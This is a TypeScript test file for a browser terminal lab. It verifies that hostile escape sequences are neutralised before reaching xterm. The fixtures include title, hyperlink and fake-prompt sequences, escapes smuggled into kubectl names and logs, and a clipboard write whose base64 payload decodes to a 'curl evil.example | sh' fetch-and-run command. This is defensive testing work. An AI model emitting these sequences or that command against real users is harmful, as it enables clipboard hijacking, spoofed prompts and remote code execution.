/**
 * Hostile input: escape sequences in text the terminal prints. Learner-controlled text (a file's
 * contents through `cat`, `echo -e`, printf, object names, logs) reaches xterm only through
 * `neutralise` (the worker host) or the pty filter (the WebContainer): title changes (OSC 0/2),
 * hyperlinks (OSC 8), clipboard writes (OSC 52), DCS and cursor/screen control that could fake a
 * prompt never reach xterm; colours (SGR) do.
 */
import { describe, expect, it } from 'vitest';
import { createCluster } from '../../src/engine/index.ts';
import { createPtyFilter, neutralise } from '../../src/components/lab/line-editor.ts';

const ESC = '\x1b';
const HOSTILE = {
  title: `${ESC}]0;pwned${'\x07'}`,
  title2: `${ESC}]2;pwned${ESC}\\`,
  hyperlink: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${'\x07'}`,
  dcs: `${ESC}P1$r0m${ESC}\\`,
  fakePrompt: `${ESC}[2K${ESC}[1G${ESC}[1A learner@lab:~$ `,
  clear: `${ESC}[H${ESC}[2J${ESC}[3J`,
  c1Osc: '\x9d0;pwned\x07',
};

/** Every escape left in `text` must be a colour (SGR); no C1 controls, no BEL. */
function expectOnlySgr(text: string): void {
  const rest = text.replace(/\x1b\[[0-9;]*m/g, '');
  expect(rest).not.toMatch(/[\x1b\x07\x80-\x9f]/);
}

describe('escape sequences from the engine are neutralised before xterm', () => {
  const c = createCluster(undefined, {
    seed: 1,
    files: { 'evil.txt': Object.values(HOSTILE).join('\n') + `\n${ESC}[31mred${ESC}[0m\n` },
  });

  it.each([
    ['cat of a file', 'cat evil.txt'],
    ['echo -e with OSC 0 title', "echo -e '\\e]0;x\\a'"],
    ['printf with OSC 52 clipboard', "printf '\\033]52;c;ZXZpbA==\\a'"],
    ['printf with cursor moves faking a prompt', "printf '\\033[2K\\033[1Gfake$ '"],
    ['an object name that carries escapes', "kubectl create ns $'\\e]0;x\\a'"],
    ['a label value that carries escapes', "kubectl run web --image=nginx --labels=$'a=\\e[2J'"],
    [
      'a pod log',
      "kubectl run logger --image=busybox -- sh -c $'echo \\e]8;;http://x\\e\\\\link'; kubectl logs logger",
    ],
  ])('%s', (_name, line) => {
    const r = c.execSync(line);
    const shown = neutralise(r.stdout + r.stderr);
    expectOnlySgr(shown);
    // What was neutralised stays visible as text (caret notation), not silently dropped.
    if (/\x1b\]/.test(r.stdout + r.stderr)) expect(shown).toContain('^[]');
  });

  it('keeps colours (SGR) from a file as colours', () => {
    const shown = neutralise(c.execSync('cat evil.txt').stdout);
    expect(shown).toContain(`${ESC}[31mred${ESC}[0m`);
    expect(shown).toContain('^[]52;c;');
  });
});

describe('the WebContainer pty filter', () => {
  it('drops OSC/DCS/SOS/PM/APC strings, keeps text, cursor control and colours', () => {
    const f = createPtyFilter();
    const out = f(
      `a${HOSTILE.title}b${HOSTILE.clipboard}c${HOSTILE.hyperlink}d${HOSTILE.dcs}e${HOSTILE.c1Osc}f${ESC}[31mg${ESC}[2K`,
    );
    expect(out).toBe(`abcclickdef${ESC}[31mg${ESC}[2K`);
  });

  it('drops a sequence split across chunks', () => {
    const f = createPtyFilter();
    const text = `x${HOSTILE.clipboard}y${HOSTILE.title2}z`;
    let out = '';
    for (const ch of text) out += f(ch);
    expect(out).toBe('xyz');
    const g = createPtyFilter();
    expect(g(`x${ESC}`) + g(']0;t') + g('itle\x07y')).toBe('xy');
  });

  it('an unterminated string ends at CAN/SUB, never swallowing the session', () => {
    const f = createPtyFilter();
    expect(f(`a${ESC}]0;never-ended\x18b`)).toBe('ab');
  });
});
